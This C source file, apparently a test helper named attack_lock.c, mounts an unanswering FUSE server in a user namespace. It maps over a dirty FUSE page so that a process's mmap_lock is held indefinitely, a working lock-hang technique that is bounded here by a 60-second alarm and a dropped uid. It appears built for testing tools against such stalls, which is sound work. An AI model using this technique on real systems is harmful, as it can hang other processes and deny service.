/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack_lock.c - holds the mmap_lock of a process of one's own for ever: a page of a FUSE file that was
 * written to is mapped over, which writes it back first (fuse_vma_close() in fs/fuse/file.c), and the server
 * does not answer. As uid 65534, in a user namespace of its own.
 *
 *   attack_lock FOLDER DEVICE READY
 *
 * The server is what is started and ended: with it ends the lock. READY is made when it is held. Exits with 4
 * where there is no such namespace or file system.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static void answer(int fd, uint64_t unique, int error, const void *p, size_t n)
{
	struct fuse_out_header h = { .len = (uint32_t)(sizeof h + n), .error = error, .unique = unique };
	char buf[8192];

	memcpy(buf, &h, sizeof h);
	memcpy(buf + sizeof h, p, n);
	if (write(fd, buf, sizeof h + n) < 0 && errno != ENOENT)
		_exit(3);
}

static void serve(int fd, const char *ready)
{
	static char buf[1 << 18], nothing[4096];
	struct fuse_in_header in;

	while (read(fd, buf, sizeof buf) > 0) {
		struct fuse_attr file = { .ino = 2, .size = 4096, .blocks = 8,
					  .mode = S_IFREG | 0666, .nlink = 1 };
		struct fuse_init_out init = { .major = 7, .minor = 31, .max_readahead = 65536,
					      .max_write = 65536 };
		struct fuse_entry_out entry = { .nodeid = 2, .entry_valid = 1000,
						.attr_valid = 1000, .attr = file };
		struct fuse_attr_out got = { .attr_valid = 1000, .attr = file };
		struct fuse_open_out opened = { .fh = 1 };

		memcpy(&in, buf, sizeof in);
		if (in.nodeid == 1) {
			got.attr.ino = 1;
			got.attr.mode = S_IFDIR | 0777;
		}
		if (in.opcode == FUSE_INIT)
			answer(fd, in.unique, 0, &init, sizeof init);
		else if (in.opcode == FUSE_LOOKUP)
			answer(fd, in.unique, 0, &entry, sizeof entry);
		else if (in.opcode == FUSE_GETATTR)
			answer(fd, in.unique, 0, &got, sizeof got);
		else if (in.opcode == FUSE_OPEN)
			answer(fd, in.unique, 0, &opened, sizeof opened);
		else if (in.opcode == FUSE_READ)
			answer(fd, in.unique, 0, nothing, sizeof nothing);
		else if (in.opcode == FUSE_WRITE)
			close(open(ready, O_WRONLY | O_CREAT, 0644)); /* and no answer */
		else if (in.opcode != FUSE_FORGET && in.opcode != FUSE_BATCH_FORGET)
			answer(fd, in.unique, -ENOSYS, "", 0);
	}
	_exit(0);
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		exit(4);
	close(fd);
}

static void hold(const char *folder)
{
	char path[4096];
	int file;
	char *at;

	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	snprintf(path, sizeof path, "%s/file", folder);
	file = open(path, O_RDWR);
	at = file < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	if (at == MAP_FAILED)
		_exit(3);
	at[0] = 1;
	(void)mmap(at, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	char how[128];
	int fd;

	if (argc < 4)
		return 2;
	if (!geteuid() && (setgroups(0, NULL) || setgid(65534) || setuid(65534)))
		return 3;
	(void)prctl(PR_SET_DUMPABLE, 1);
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	alarm(60);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 4;
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 65534 1");
	put("/proc/self/gid_map", "0 65534 1");
	fd = open(argv[2], O_RDWR | O_CLOEXEC);
	snprintf(how, sizeof how, "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
	if (fd < 0 || mount("withheld", argv[1], "fuse", MS_NOSUID | MS_NODEV, how))
		return 4;
	if (!fork()) {
		close(fd);
		hold(argv[1]);
	}
	serve(fd, argv[3]);
}
